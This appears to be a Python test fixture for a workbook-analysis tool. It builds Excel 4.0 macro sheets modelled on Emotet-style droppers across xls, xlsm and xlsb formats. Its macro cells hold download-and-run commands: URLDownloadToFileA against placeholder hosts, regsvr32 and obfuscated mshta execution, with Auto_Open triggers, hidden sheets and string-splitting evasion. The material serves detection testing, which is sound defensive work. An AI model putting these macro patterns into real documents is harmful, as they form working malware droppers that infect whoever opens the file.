"""A plan of a workbook read back through each shell, and the plans that look like those of the field."""

from __future__ import annotations

import io
import zipfile

from support.office.biff_writer import workbook_stream
from support.office.xlm_writer import BookPlan, NamePlan, SheetPlan, xml_parts, zipped
from support.office.xlsb_writer import xlsb_parts

from mimawari.formats.office.excel import read_biff, read_parts
from mimawari.formats.office.parts import Notes, Workbook
from mimawari.model import BadEvidence, Reason


class DictParts:
    """Parts from memory."""

    def __init__(self, parts: dict[str, bytes]) -> None:
        self._parts = parts
        self._names = {name.lower(): name for name in parts}

    def names(self) -> tuple[str, ...]:
        return tuple(self._parts)

    def size(self, name: str) -> int:
        return len(self._parts.get(self._names.get(name.lower(), ""), b""))

    def read(self, name: str, most: int) -> bytes:
        if name.lower() not in self._names:
            raise BadEvidence(Reason.MISSING, name)
        return self._parts[self._names[name.lower()]][:most]


def zip_parts(data: bytes) -> DictParts:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return DictParts({name: package.read(name) for name in package.namelist()})


def from_biff(plan: BookPlan, notes: Notes) -> Workbook:
    return read_biff(io.BytesIO(workbook_stream(plan)), notes)


def from_xml(plan: BookPlan, notes: Notes) -> Workbook:
    return read_parts(zip_parts(zipped(xml_parts(plan))), notes)


def from_xlsb(plan: BookPlan, notes: Notes) -> Workbook:
    return read_parts(zip_parts(zipped(xlsb_parts(plan))), notes)


SHELLS = {"xls": from_biff, "xlsm": from_xml, "xlsb": from_xlsb}

DOWNLOAD = 'CALL("urlmon","URLDownloadToFileA","JJCCBB",0,{cell},"..\\wn1.ocx",0,0)'


def spring_2022() -> BookPlan:
    """Download with fallback, then regsvr32; addresses in cells of a hidden worksheet (DOMAIN.md 2.1, 2022-02 to 2022-07)."""
    macro: dict[str, str | float] = {
        "D1": "=" + DOWNLOAD.format(cell="Sheet2!$B$3"),
        "D3": "=IF(HLDX<0," + DOWNLOAD.format(cell="Sheet2!$B$4") + ")",
        "D5": "=IF(HLDX<0,CLOSE(0),)",
        "D7": '=EXEC("C:\\Windows\\SysWow64\\regsvr32.exe /S ..\\wn1.ocx")',
        "D9": "=RETURN()",
    }
    addresses: dict[str, str | float] = {"B3": "http://one.example.com/a/", "B4": "https://two.example.jp/b/", "C1": "left alone"}
    return BookPlan(
        sheets=(
            SheetPlan("Sheet1", {"A1": "what is seen"}, "worksheet"),
            SheetPlan("Sheet2", addresses, "worksheet", "hidden"),
            SheetPlan("GGDD", macro, "macrosheet", "very-hidden"),
        ),
        names=(NamePlan("Auto_Open", "GGDD!$D$1", built_in=True), NamePlan("HLDX", "GGDD!$D$1")),
    )


def december_2021() -> BookPlan:
    """The command is the value of a name that holds in one sheet (emotet-documents.md, em20211207a)."""
    command = '"cmd /c m^sh^t^a h^tt^p^:/^/192.0.2.7/fer/fe1.html"'
    return BookPlan(
        sheets=(
            SheetPlan("Protect", {}, "worksheet"),
            SheetPlan("OO", {"J1": "=EXEC(KKGH)", "J2": "=HALT()"}, "macrosheet", "hidden"),
        ),
        names=(NamePlan("Auto_Open", "OO!$J$1", built_in=True), NamePlan("KKGH", command, "OO", hidden=True)),
    )


def joined() -> BookPlan:
    """Texts in pieces: joined with ``&``, by number, from cells with texts and numbers."""
    macro: dict[str, str | float] = {
        "A1": "reg",
        "A2": "svr32",
        "A3": 46.0,
        "B1": '=EXEC(A1&A2&CHAR(46)&"exe -s "&CHAR(A3)&CHAR(A3)&"\\x.ocx")',
        "B2": '="ur"&"lmon"',
        "B3": '=REGISTER(B2,"URLDownloadToFileA","JJCCBB","Bvd",,1,9)',
        "B4": '=Bvd(0,"http"&"://example.com/x",S!A1,0,0)',
        "B5": "=GOTO(A1)",
    }
    return BookPlan(
        sheets=(
            SheetPlan("M", macro),
            SheetPlan("S", {"A1": "..\\x.ocx", "A2": "not used"}, "worksheet"),
        ),
        names=(NamePlan("Bvd", "0"), NamePlan("auto_openQX", "M!$B$1")),
    )  # fmt: skip
